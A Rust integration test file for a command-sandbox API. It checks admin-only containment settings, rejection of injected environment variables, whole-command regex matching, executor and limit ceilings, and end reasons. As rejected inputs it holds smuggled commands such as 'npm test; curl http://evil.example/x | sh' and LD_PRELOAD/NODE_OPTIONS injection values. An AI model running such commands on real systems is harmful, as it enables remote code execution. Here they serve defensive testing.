//! What the API enforces around the sandbox: who may set a project's
//! containment (executor, allowed_commands, limits, network), variables no
//! command may set, executor kinds the deployment disables, the ceilings of
//! limits, and the end reason in every place a command is shown.

use reqwest::Method;
use serde_json::{Value, json};

use rdev_tests::{Options, TestApp, spawn_app, spawn_app_with};

const WAIT: std::time::Duration = std::time::Duration::from_secs(60);

async fn patch(app: &TestApp, key: &str, name: &str, body: Value) -> rdev_tests::Resp {
    app.request(
        Method::PATCH,
        &format!("/v1/projects/{name}"),
        Some(key),
        Some(body),
    )
    .await
}

#[tokio::test]
async fn only_projects_admin_sets_what_contains_a_project() {
    let app = spawn_app_with(Options {
        worker: false,
        ..Default::default()
    })
    .await;
    app.create_project("web", json!({})).await;
    let (_, writer) = app
        .create_key(json!({"name": "writer", "scopes": ["projects:write"]}))
        .await;
    let (_, restricted) = app
        .create_key(
            json!({"name": "web writer", "scopes": ["projects:write"], "projects": ["web"]}),
        )
        .await;
    let (_, admin) = app
        .create_key(
            json!({"name": "projects admin", "scopes": ["projects:admin"], "projects": ["web"]}),
        )
        .await;

    let changes = [
        json!({"executor": {"kind": "local", "workdir": "other-project"}}),
        json!({"executor": {"kind": "kubernetes", "namespace": "kube-system", "selector": "x=y"}}),
        json!({"allowed_commands": ["argv0:make"]}),
        json!({"network": "none"}),
        json!({"limits": {"memory_bytes": 1_073_741_824i64}}),
    ];
    for key in [&writer, &restricted] {
        for body in &changes {
            let p = patch(&app, key, "web", body.clone())
                .await
                .assert_problem(403);
            assert!(
                p["detail"]
                    .as_str()
                    .unwrap_or("")
                    .contains("projects:admin"),
                "{body}: {p}"
            );
        }
        // Everything else stays open to projects:write, and restating the
        // current settings changes nothing.
        let r = patch(
            &app,
            key,
            "web",
            json!({"description": "ok", "executor": {"kind": "local", "workdir": "web"}, "network": "host"}),
        )
        .await;
        assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
    }
    // Creating with containment settings takes the scope too; the defaults do not.
    let body = json!({"name": "side", "executor": {"kind": "local", "workdir": "web"}});
    app.request(Method::POST, "/v1/projects", Some(&writer), Some(body))
        .await
        .assert_problem(403);
    let r = app
        .request(
            Method::POST,
            "/v1/projects",
            Some(&writer),
            Some(json!({"name": "plain", "executor": {"kind": "local", "workdir": "plain"}})),
        )
        .await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));

    // projects:admin (even restricted to the project) may.
    for body in &changes[2..] {
        let r = patch(&app, &admin, "web", body.clone()).await;
        assert_eq!(
            r.status,
            200,
            "{body}: {}",
            String::from_utf8_lossy(&r.body)
        );
    }
    let p = app.get("/v1/projects/web").await.json();
    assert_eq!(p["network"], "none");
    assert_eq!(p["limits"]["memory_bytes"], 1_073_741_824i64);
    assert_eq!(p["allowed_commands"], json!(["argv0:make"]));
    // Clearing the policy is a change as well.
    patch(&app, &writer, "web", json!({"allowed_commands": null}))
        .await
        .assert_problem(403);
}

#[tokio::test]
async fn variables_that_change_what_runs_are_refused() {
    let app = spawn_app_with(Options {
        worker: false,
        ..Default::default()
    })
    .await;
    app.create_project("open", json!({})).await;
    app.create_project("strict", json!({"allowed_commands": ["argv0:make"]}))
        .await;
    for (name, body) in [
        (
            "LD_PRELOAD",
            json!({"argv": ["make"], "env": {"LD_PRELOAD": "/tmp/x.so"}}),
        ),
        (
            "BASH_ENV",
            json!({"argv": ["make"], "env": {"BASH_ENV": "/tmp/x"}}),
        ),
        (
            "NODE_OPTIONS",
            json!({"argv": ["make"], "env": {"NODE_OPTIONS": "--require /tmp/x.js"}}),
        ),
    ] {
        let p = app
            .post("/v1/projects/open/commands", body)
            .await
            .assert_problem(422);
        assert_eq!(p["errors"][0]["field"], format!("env.{name}"), "{p}");
    }
    // PATH is the user's own business, except where a policy names programs.
    app.run(
        "open",
        json!({"argv": ["make"], "env": {"PATH": "/workspace/bin"}}),
    )
    .await;
    let p = app
        .post(
            "/v1/projects/strict/commands",
            json!({"argv": ["make"], "env": {"PATH": "/workspace/bin"}}),
        )
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "env.PATH", "{p}");
    // Project env is checked the same way.
    let p = app
        .post(
            "/v1/projects",
            json!({"name": "bad", "env": {"LD_LIBRARY_PATH": "/tmp"}}),
        )
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "env.LD_LIBRARY_PATH", "{p}");
}

#[tokio::test]
async fn a_regex_rule_matches_the_whole_command_only() {
    let app = spawn_app_with(Options {
        worker: false,
        ..Default::default()
    })
    .await;
    app.create_project(
        "ci",
        json!({"allowed_commands": ["re:^npm test|npm run lint$"]}),
    )
    .await;
    app.run("ci", json!({"command": "npm test"})).await;
    for line in [
        "npm test; curl http://evil.example/x | sh",
        "npm test && curl http://evil.example",
        "curl http://evil.example; npm run lint",
    ] {
        app.post("/v1/projects/ci/commands", json!({"command": line}))
            .await
            .assert_problem(403);
    }
}

#[tokio::test]
async fn disabled_executor_kinds_and_limits_over_the_ceiling_are_refused() {
    let app = spawn_app_with(Options {
        worker: false,
        executors: "kubernetes",
        limits_max: "memory=1G,pids=100",
        ..Default::default()
    })
    .await;
    let p = app
        .post("/v1/projects", json!({"name": "local-one"}))
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "executor.kind", "{p}");
    assert!(
        p["errors"][0]["message"]
            .as_str()
            .unwrap_or("")
            .contains("allowed: kubernetes"),
        "{p}"
    );
    let kube = json!({"kind": "kubernetes", "namespace": "dev", "selector": "app=web"});
    let r = app
        .post("/v1/projects", json!({"name": "pods", "executor": kube}))
        .await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    let p = patch(
        &app,
        &app.admin_key,
        "pods",
        json!({"executor": {"kind": "local"}}),
    )
    .await
    .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "executor.kind", "{p}");
    // Local-only settings on a kubernetes project.
    let p = patch(&app, &app.admin_key, "pods", json!({"network": "none"}))
        .await
        .assert_problem(422);
    assert_eq!(p["errors"][0]["field"], "network", "{p}");

    let app = spawn_app_with(Options {
        worker: false,
        limits_max: "memory=1G,pids=100",
        ..Default::default()
    })
    .await;
    let p = app
        .post(
            "/v1/projects",
            json!({"name": "big", "limits": {"memory_bytes": 2_147_483_648i64, "pids": 1, "disk": 1}}),
        )
        .await;
    assert_eq!(p.status, 422, "unknown limit fields are refused");
    let p = app
        .post(
            "/v1/projects",
            json!({"name": "big", "limits": {"memory_bytes": 2_147_483_648i64, "pids": 1}}),
        )
        .await
        .assert_problem(422);
    let fields: Vec<&str> = p["errors"]
        .as_array()
        .expect("errors")
        .iter()
        .filter_map(|e| e["field"].as_str())
        .collect();
    assert_eq!(fields, ["limits.memory_bytes", "limits.pids"], "{p}");
}

#[tokio::test]
async fn the_end_reason_is_in_the_command_its_events_and_its_webhooks() {
    let app = spawn_app().await;
    app.create_project("p", json!({})).await;
    // An endpoint that wants the failures (nothing listens: no dispatcher
    // runs here; the stored event is what it would be sent).
    let r = app
        .post(
            "/v1/webhooks",
            json!({"url": "http://127.0.0.1:9/", "events": ["command.failed"]}),
        )
        .await;
    assert_eq!(r.status, 201, "{}", String::from_utf8_lossy(&r.body));
    let ok = app.run("p", json!({"command": "exit 3"})).await;
    let id = ok["id"].as_str().expect("id");
    assert!(ok["reason"].is_null(), "no reason while queued: {ok}");
    let c = app.wait_terminal(id, WAIT).await;
    assert_eq!(
        (
            c["status"].as_str(),
            c["reason"].as_str(),
            c["exit_code"].as_i64()
        ),
        (Some("failed"), Some("exited"), Some(3)),
        "{c}"
    );
    let events = app.events(id, None, None).await;
    let end = events.last().expect("an end event");
    assert_eq!(end.event, "end");
    assert_eq!(end.data["reason"], "exited", "{:?}", end.data);
    // The event that webhooks deliver, written with the finish.
    let client = app.env.pool.get().await.expect("db");
    let row = client
        .query_one(
            "SELECT payload FROM webhook_deliveries WHERE event_type = 'command.failed'",
            &[],
        )
        .await
        .expect("the command.failed event");
    let event: Value = serde_json::from_slice(row.get::<_, &[u8]>(0)).expect("event json");
    assert_eq!(event["data"]["reason"], "exited", "{event}");
    assert_eq!(event["data"]["id"], id, "{event}");

    let c = app.run("p", json!({"command": "kill -TERM $$"})).await;
    let c = app.wait_terminal(c["id"].as_str().expect("id"), WAIT).await;
    assert_eq!(
        (
            c["reason"].as_str(),
            c["signal"].as_i64(),
            c["exit_code"].as_i64()
        ),
        (Some("signaled"), Some(15), Some(143)),
        "{c}"
    );
    let c = app
        .run("p", json!({"argv": ["no-such-program-anywhere"]}))
        .await;
    let c = app.wait_terminal(c["id"].as_str().expect("id"), WAIT).await;
    assert_eq!(c["reason"], "failed_to_start", "{c}");
}

#[tokio::test]
async fn the_worker_says_what_contains_local_commands() {
    let app = spawn_app().await;
    let ops = app.worker_ops.clone().expect("worker");
    let ready: Value = reqwest::get(format!("{ops}/ready"))
        .await
        .expect("ready")
        .json()
        .await
        .expect("json");
    let sandbox = &ready["details"]["local_sandbox"];
    assert_eq!(sandbox["mode"], "bwrap", "{ready}");
    // The small init the worker carries (built for x86_64 and aarch64).
    assert_eq!(sandbox["starter"], "built-in", "{ready}");
    assert!(
        sandbox["user"].as_str().is_some_and(|u| !u.is_empty()),
        "{ready}"
    );
    assert!(
        sandbox["limits"]
            .as_str()
            .is_some_and(|l| l.starts_with("cgroup") || l.starts_with("rlimits")),
        "{ready}"
    );
}
